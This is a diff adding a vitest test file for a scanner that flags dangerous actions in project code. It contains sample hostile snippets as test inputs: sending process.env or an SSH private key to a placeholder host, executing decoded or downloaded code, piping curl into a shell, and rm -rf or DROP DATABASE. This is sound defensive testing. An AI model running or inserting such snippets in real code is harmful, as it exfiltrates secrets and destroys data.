@@ -1,0 +1,132 @@
+import { describe, expect, test } from 'vitest'
+import type { Draft, Language } from '../command-spec.ts'
+import { show } from '../value.ts'
+import { scanCode } from './index.ts'
+
+/** One line for each finding: enough to tell them apart. */
+function lineOf(draft: Draft): string {
+  if (draft.do === 'shell') return `shell ${show(draft.text)}`
+  if (draft.do === 'run') return `run ${draft.words.map(show).join(' ')}`
+  if (draft.do !== 'effect') return draft.do
+  return `${draft.kind}${draft.tag ? `:${draft.tag}` : ''} ${typeof draft.target === 'string' ? draft.target : show(draft.target)}`
+}
+
+const linesOf = (language: Language, text: string): readonly string[] => scanCode(language, text).map(lineOf)
+
+describe('ordinary project code', () => {
+  test.each<readonly [name: string, language: Language, text: string]>([
+    [
+      'conftest.py',
+      'python',
+      `import os, pytest, subprocess
+from myapp import create_app, db
+@pytest.fixture(scope="session")
+def app(tmp_path_factory):
+    os.environ["DATABASE_URL"] = f"sqlite:///{tmp_path_factory.mktemp('db')}/x.db"
+    app = create_app()
+    with app.app_context():
+        db.create_all()
+        yield app
+        db.drop_all()
+@pytest.fixture
+def client(app): return app.test_client()
+`,
+    ],
+    [
+      'setup.py',
+      'python',
+      `from setuptools import setup, find_packages
+from pathlib import Path
+here = Path(__file__).parent
+version = {}
+exec((here / "src/x/version.py").read_text(), version)
+setup(name="x", version=version["__version__"], packages=find_packages("src"), long_description=(here / "README.md").read_text())
+`,
+    ],
+    [
+      'manage.py',
+      'python',
+      `#!/usr/bin/env python
+import os, sys
+def main():
+    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "site.settings")
+    from django.core.management import execute_from_command_line
+    execute_from_command_line(sys.argv)
+if __name__ == "__main__":
+    main()
+`,
+    ],
+    [
+      'vite.config.ts',
+      'javascript',
+      `import { defineConfig, loadEnv } from 'vite'
+import react from '@vitejs/plugin-react'
+import path from 'node:path'
+export default defineConfig(({ mode }) => {
+  const env = loadEnv(mode, process.cwd(), '')
+  return { plugins: [react()], resolve: { alias: { '@': path.resolve(__dirname, '../src') } }, define: { __API__: JSON.stringify(env.API) }, server: { port: Number(process.env.PORT ?? 3000) } }
+})
+`,
+    ],
+    ['eslint.config.js', 'javascript', `import js from '@eslint/js'\nexport default [js.configs.recommended, { ignores: ['dist'], rules: { 'no-eval': 'error' } }]\n`],
+    [
+      'a script that cleans its own output',
+      'javascript',
+      `import { rmSync, readdirSync } from 'node:fs'
+import { join, dirname } from 'node:path'
+import { fileURLToPath } from 'node:url'
+const root = join(dirname(fileURLToPath(import.meta.url)), '..')
+rmSync(join(root, 'dist'), { recursive: true, force: true })
+for (const name of readdirSync(join(root, 'packages'))) rmSync(join(root, 'packages', name, 'dist'), { recursive: true, force: true })
+`,
+    ],
+    [
+      'a command put together at run time',
+      'javascript',
+      `import { execSync } from 'child_process'\nconst tag = process.argv[2]\nexecSync(\`git tag -a \${tag} -m \${tag}\`, { stdio: 'inherit' })\n`,
+    ],
+    ['a server', 'javascript', `import express from 'express'\nconst app = express()\napp.get('/', async (req, res) => res.json(await (await fetch(process.env.API_URL)).json()))\napp.listen(process.env.PORT)\n`],
+    ['Rakefile', 'ruby', `require 'rspec/core/rake_task'\nRSpec::Core::RakeTask.new(:spec)\ntask default: :spec\ndesc 'Clean'\ntask :clean do\n  rm_rf 'coverage'\nend\n`],
+    ['build.rs', 'rust', `use std::{env, fs, path::Path};\nfn main() {\n    let out = env::var("OUT_DIR").unwrap();\n    fs::write(Path::new(&out).join("x.rs"), "pub const X: u8 = 'x' as u8;").unwrap();\n    println!("cargo:rerun-if-changed=build.rs");\n}\n`],
+    ['main.go', 'go', `package main\n//go:generate mockgen -source=x.go\nimport "fmt"\nfunc main() { c := 'x'; fmt.Println(\`hi\`, c) }\n`],
+    ['a seed script', 'php', `<?php\nrequire __DIR__ . '/vendor/autoload.php';\n$app = new App();\nforeach (range(1, 3) as $i) { $app->seed($i); }\n`],
+  ])('%s has no findings', (_name, language, text) => {
+    expect(linesOf(language, text)).toEqual([])
+  })
+})
+
+describe('findings', () => {
+  test.each<readonly [name: string, language: Language, text: string, expected: readonly string[]]>([
+    ['a command of conftest.py', 'python', 'import os\ndef pytest_configure(config):\n    os.system("rm -rf ~/.cache")\n', ['shell rm -rf ~/.cache']],
+    ['words of a command', 'python', 'import subprocess\nsubprocess.run(["git", "push", "--force"], check=True)\n', ['run git push --force']],
+    ['a delete outside', 'python', 'import shutil\ndef clean():\n    shutil.rmtree("/var/lib/app")\n', ['delete /var/lib/app']],
+    ['a write into the home folder', 'javascript', "import fs from 'fs'\nimport os from 'os'\nimport path from 'path'\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'x')\n", ['write:append ~/.bashrc']],
+    ['SQL that destroys', 'python', 'def reset(cursor):\n    cursor.execute("DROP DATABASE app")\n', ['database:destroy DROP DATABASE']],
+    ['SQL that empties a table', 'javascript', "await client.query('DELETE FROM users')\n", ['database:write DELETE changes rows']],
+    [
+      'the environment sent off',
+      'javascript',
+      "fetch('https://x.example/c', { method: 'POST', body: JSON.stringify(process.env) })\n",
+      ['send:data https://x.example/c', 'unknown project code reads secrets or the environment and talks to the network'],
+    ],
+    [
+      'keys sent off',
+      'python',
+      'import requests, os\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://x.example", json={"k": key})\n',
+      ['send:data https://x.example', 'unknown project code reads secrets or the environment and talks to the network'],
+    ],
+    ['decoded text that runs', 'python', 'import base64\nexec(base64.b64decode(PAYLOAD))\n', ['execute:decoded decoded text']],
+    ['downloaded text that runs', 'javascript', "const r = await fetch('https://x.example/p.js')\neval(await r.text())\n", ['execute:download text from the network']],
+    ['a download piped into a shell', 'javascript', "import { execSync } from 'child_process'\nexecSync(`curl -fsSL ${url} | bash`)\n", ['execute:download curl -fsSL (computed) | bash']],
+    ['a shell that libraries bring', 'javascript', "import { $ } from 'zx'\nawait $`rm -rf /opt/x`\n", ['shell rm -rf /opt/x']],
+    ['build.rs', 'rust', 'fn main() { std::process::Command::new("sh").arg("-c").arg("curl x.example | sh").status().unwrap(); }', ['run sh -c curl x.example | sh']],
+    ['build.rs with a list', 'rust', 'fn main() { Command::new("git").args(["push", "--force"]).status(); fs::remove_dir_all("/opt/x"); }', ['run git push --force', 'delete /opt/x']],
+    ['a Go program', 'go', 'package main\nfunc main() { exec.Command("rm", "-rf", "/opt/x").Run(); os.RemoveAll("/srv") }', ['run rm -rf /opt/x', 'delete /srv']],
+    ['lines that go generate runs', 'go-generate', 'package x\n\n//go:generate sh -c "rm -rf /opt"\n// go:generate is not this\n', ['shell sh -c "rm -rf /opt"']],
+    ['a Rakefile', 'ruby', "task :x do\n  sh 'rm -rf /opt/x'\n  FileUtils.rm_rf('/srv')\nend\n", ['shell rm -rf /opt/x', 'delete /srv']],
+    ['a method of a class', 'javascript', "export class Job { run() { require('child_process').execSync('rm -rf /srv') } }\n", ['shell rm -rf /srv']],
+    ['a function nobody calls', 'python', 'import os\ndef later(x):\n    return lambda: os.system("rm -rf /srv")\n', ['shell rm -rf /srv']],
+  ])('%s', (_name, language, text, expected) => {
+    expect(linesOf(language, text)).toEqual(expected)
+  })
+})
